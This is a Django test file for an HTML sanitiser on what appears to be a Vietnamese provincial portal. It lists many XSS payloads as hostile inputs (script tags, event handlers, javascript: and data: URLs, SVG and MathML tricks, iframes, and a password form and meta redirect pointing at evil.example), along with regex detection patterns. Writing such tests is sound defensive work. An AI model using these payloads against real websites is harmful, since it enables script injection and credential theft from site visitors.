"""The rich-text sanitiser against docs/security.md §2 (R1–R11, R13)."""

import re
import unicodedata

from django.test import TestCase

from ndportal.html import sanitize_html
from news.models import Article
from resolutions.models import Conference, Document
from tests.factories import make_article, make_conference, make_document

# (input family of docs/security.md §2, hostile input)
HOSTILE_INPUTS = [
    ("R1", "<p>hi</p><script>alert(1)</script>"),
    ("R1", "<ScRiPt>alert(1)</sCrIpT>"),
    ("R1", "<scr<script>ipt>alert(1)</script>"),
    ("R2", '<img src=x onerror="alert(1)">'),
    ("R2", "<details open ontoggle=alert(1)>x</details>"),
    ("R2", "<body onload=alert(1)>x</body>"),
    ("R2", '<p onclick="alert(1)" onmouseover=alert(1)>x</p>'),
    ("R2", '<a href="https://nam-dinh.example/" onfocus=alert(1) autofocus>x</a>'),
    ("R3", '<a href="javascript:alert(1)">x</a>'),
    ("R3", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("R3", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("R3", '<a href=" javascript:alert(1)">x</a>'),
    ("R3", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("R3", '<a href="vbscript:msgbox(1)">x</a>'),
    ("R4", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("R4", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("R4", '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    ("R5", "<svg onload=alert(1)>"),
    ("R5", "<svg><script>alert(1)</script></svg>"),
    ("R5", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("R6", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("R6", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("R7", "<style>body{background:url(javascript:alert(1))}</style><p>x</p>"),
    ("R7", '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>'),
    ("R7", '<p style="width:expression(alert(1))">x</p>'),
    ("R7", '<p style="width:url(javascript:alert(1))">x</p>'),
    ("R7", '<p style="background-image:url(data:image/svg+xml;base64,AAAA)">x</p>'),
    ("R8", '<iframe src="https://evil.example/"></iframe>'),
    ("R8", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("R9", '<object data="https://evil.example/x.swf">go</object>'),
    ("R9", '<embed src="https://evil.example/x.swf">'),
    ("R9", '<form action="https://evil.example/"><input type=password><button>go</button></form>'),
    ("R9", '<button formaction="javascript:alert(1)">x</button>'),
    ("R9", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("R9", '<base href="https://evil.example/">'),
    ("R9", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    ("R10", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("R10", "<![CDATA[<script>alert(1)</script>]]>"),
    ("R10", "<!-- <img src=x onerror=alert(1)> -->"),
]

FORBIDDEN_TAGS = re.compile(
    r"<\s*/?\s*(script|style|svg|math|iframe|object|embed|form|input|button|meta|base|link)\b",
    re.IGNORECASE,
)
EVENT_HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.IGNORECASE)
DANGEROUS_URL = re.compile(r"(javascript|vbscript|data)\s*:|expression\s*\(", re.IGNORECASE)


def assert_harmless(testcase, html):
    testcase.assertIsNone(FORBIDDEN_TAGS.search(html), html)
    testcase.assertIsNone(EVENT_HANDLER.search(html), html)
    # Text outside tags is escaped and inert; only attribute values can carry a URL.
    for attribute_value in re.findall(r'=\s*"([^"]*)"', html):
        testcase.assertIsNone(DANGEROUS_URL.search(attribute_value), html)


class HostileInputTests(TestCase):
    def test_hostile_inputs_come_out_harmless(self):
        """No script, no on* handler, no javascript:/data: URL survives any R1–R10 input."""
        for rule, payload in HOSTILE_INPUTS:
            with self.subTest(rule=rule, payload=payload):
                assert_harmless(self, sanitize_html(payload))

    def test_decomposed_hostile_input_is_harmless_too(self):
        """Unicode normalisation before cleaning cannot smuggle a handler through."""
        for _rule, payload in HOSTILE_INPUTS:
            with self.subTest(payload=payload):
                assert_harmless(self, sanitize_html(unicodedata.normalize("NFD", payload)))

    def test_script_content_is_removed_not_escaped(self):
        """The body of a script element disappears instead of showing as text."""
        self.assertEqual(sanitize_html("<p>hi</p><script>alert(1)</script>"), "<p>hi</p>")

    def test_javascript_link_keeps_its_text(self):
        """A javascript: link loses its href but the reader keeps the link text."""
        self.assertEqual(
            sanitize_html('<a href="javascript:alert(1)">Nghị quyết</a>'),
            '<a rel="noopener noreferrer">Nghị quyết</a>',
        )

    def test_unsafe_style_values_are_dropped_safe_ones_kept(self):
        """A disallowed or suspicious CSS value goes; text-align in the same attribute stays."""
        self.assertEqual(
            sanitize_html('<p style="width:url(javascript:x);color:red;text-align:center">x</p>'),
            '<p style="text-align:center">x</p>',
        )
        self.assertEqual(sanitize_html('<p style="position:fixed">x</p>'), "<p>x</p>")

    def test_empty_and_missing_values(self):
        """None and the empty string give an empty string."""
        self.assertEqual(sanitize_html(None), "")
        self.assertEqual(sanitize_html(""), "")

    def test_malformed_html_does_not_raise(self):
        """Broken markup is repaired, not an error."""
        self.assertEqual(sanitize_html("<p><b>đậm <i>cả hai"), "<p><b>đậm <i>cả hai</i></b></p>")
        self.assertIn("&lt;&lt;&gt;&gt;", sanitize_html("</div></p><<>>"))


class GoodEditorOutputTests(TestCase):
    """R11: what CKEditor produces for a normal article must survive unchanged in meaning."""

    def test_table_survives(self):
        """Tables with header cells and colspan survive (tbody is added)."""
        html = (
            '<table><thead><tr><th scope="col">Chỉ tiêu</th><th>Kết quả</th></tr></thead>'
            '<tbody><tr><td colspan="2">Tăng trưởng 7,5%</td></tr></tbody></table>'
        )
        self.assertEqual(sanitize_html(html), html)

    def test_headings_lists_and_emphasis_survive(self):
        """Headings, ordered and bulleted lists, bold, italic, blockquote survive."""
        html = (
            '<h2>Mục tiêu</h2><h3>Đến năm 2025</h3><ol start="2"><li>Một</li></ol>'
            "<ul><li><strong>Hai</strong> <em>ba</em></li></ul>"
            "<blockquote><p>Trích</p></blockquote>"
        )
        self.assertEqual(sanitize_html(html), html)

    def test_links_get_rel_and_keep_href(self):
        """http(s) and mailto links keep their target and get rel=noopener noreferrer."""
        self.assertEqual(
            sanitize_html('<a href="https://namdinh.gov.vn/">Cổng tỉnh</a>'),
            '<a href="https://namdinh.gov.vn/" rel="noopener noreferrer">Cổng tỉnh</a>',
        )
        self.assertIn(
            'href="mailto:btg@namdinh.vn"', sanitize_html('<a href="mailto:btg@namdinh.vn">x</a>')
        )

    def test_image_with_alt_and_size_survives(self):
        """An uploaded image keeps src, alt, width, height and its size style."""
        html = (
            '<img src="/media/editor/anh.jpg" alt="Toàn cảnh hội nghị" width="800" height="450" '
            'style="width:800px;height:450px">'
        )
        self.assertEqual(sanitize_html(html), html)

    def test_text_align_survives(self):
        """CKEditor's justify buttons (style text-align) keep working."""
        self.assertEqual(
            sanitize_html('<p style="text-align: center;">Giữa</p>'),
            '<p style="text-align:center">Giữa</p>',
        )
        self.assertEqual(
            sanitize_html('<p style="text-align:justify">Đều</p>'),
            '<p style="text-align:justify">Đều</p>',
        )

    def test_output_is_nfc(self):
        """Decomposed editor text is stored composed."""
        self.assertEqual(sanitize_html(unicodedata.normalize("NFD", "<p>Định</p>")), "<p>Định</p>")


class StorageBypassTests(TestCase):
    """R13: rich text written around the admin is still clean when stored and shown."""

    payload = '<p>Tin</p><img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>'

    @classmethod
    def setUpTestData(cls):
        cls.article = make_article()
        cls.document = make_document()
        cls.conference = make_conference()

    def test_model_save_sanitises(self):
        """Saving through the ORM cleans the body before it reaches the database."""
        article = make_article(body=self.payload)
        # The image lost its source, so it is dropped whole: a reader would see it broken.
        self.assertEqual(article.body, '<p>Tin</p><a rel="noopener noreferrer">x</a>')
        article.refresh_from_db()
        assert_harmless(self, article.body)

    def test_queryset_update_sanitises(self):
        """QuerySet.update, which skips save(), still stores clean HTML on every rich field."""
        Article.objects.filter(pk=self.article.pk).update(body=self.payload)
        Document.objects.filter(pk=self.document.pk).update(body=self.payload)
        Conference.objects.filter(pk=self.conference.pk).update(summary=self.payload)
        for obj, field in [
            (self.article, "body"),
            (self.document, "body"),
            (self.conference, "summary"),
        ]:
            with self.subTest(model=type(obj).__name__):
                obj.refresh_from_db()
                self.assertIn("<p>Tin</p>", getattr(obj, field))
                assert_harmless(self, getattr(obj, field))

    def test_public_pages_after_update_carry_no_handler(self):
        """The public pages of rows written by QuerySet.update show no handler or script URL."""
        Article.objects.filter(pk=self.article.pk).update(body=self.payload)
        Document.objects.filter(pk=self.document.pk).update(body=self.payload)
        Conference.objects.filter(pk=self.conference.pk).update(summary=self.payload)
        for obj in [self.article, self.document, self.conference]:
            with self.subTest(url=obj.get_absolute_url()):
                response = self.client.get(obj.get_absolute_url())
                self.assertContains(response, "<p>Tin</p>", html=False)
                self.assertNotContains(response, "onerror")
                self.assertNotContains(response, "javascript:")
